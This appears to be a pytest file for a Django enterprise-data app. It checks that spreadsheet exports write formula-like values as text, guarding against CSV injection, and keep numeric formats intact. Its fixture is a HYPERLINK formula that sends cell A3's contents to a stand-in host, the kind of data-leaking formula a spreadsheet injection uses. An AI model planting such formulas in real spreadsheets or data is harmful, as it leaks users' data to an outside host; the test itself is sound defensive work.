"""The enterprise list and the import problem report never carry a live formula (OWASP CSV injection),
and their numbers stay numbers with formats."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kechuang.core.models import AccessLog
from kechuang.enterprises import importing, services
from tests import factories as f

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://x?d="&A3,"查看")'


def _rows(response):
    assert response.status_code == 200
    return [list(r) for r in load_workbook(io.BytesIO(response.content)).active.iter_rows()]


def test_enterprise_list_writes_a_formula_name_as_text(client, city):
    org = city["e1"].organisation
    org.name = EVIL
    org.save()
    f.facts(city["e1"], 2024, revenue=Decimal("32500000"), rd_expense=Decimal("1625000"), employees=1200)
    services.recompute_labels()
    client.force_login(city["users"]["district"])
    header, row = _rows(client.get(reverse("enterprise_export")))
    by = {h.value: c for h, c in zip(header, row, strict=True)}
    name = by["企业名称"]
    assert name.value == EVIL and name.data_type == "s"
    assert by["营业收入（万元）"].value == 3250 and by["营业收入（万元）"].number_format == "#,##0.00"
    assert by["研发投入强度"].value == pytest.approx(0.05) and by["研发投入强度"].number_format == "0.00%"
    assert by["从业人员数"].value == 1200 and by["从业人员数"].data_type == "n"


def test_import_problem_report_writes_a_formula_value_as_text(client, city):
    staff = city["users"]["staff"]
    data = (
        "uscc,name,district,year\n" + f'91370303MA0000001M,"{EVIL.replace(chr(34), chr(34) * 2)}",=1+1,2024\n'
    )
    outcome = importing.import_facts(data.encode(), "bad.csv", staff)
    assert not outcome.ok
    client.force_login(staff)
    rows = _rows(client.get(reverse("import_report", args=[outcome.run.pk])))
    values = [r[3] for r in rows[1:]]
    assert any(c.value == "=1+1" for c in values)
    assert all(c.data_type == "s" for c in values if isinstance(c.value, str) and c.value.startswith("="))
    log = AccessLog.objects.get(kind=AccessLog.Kind.EXPORT)  # the report carries what was typed: audited
    assert log.what == "年度数据导入问题报告" and log.rows == len(rows) - 1
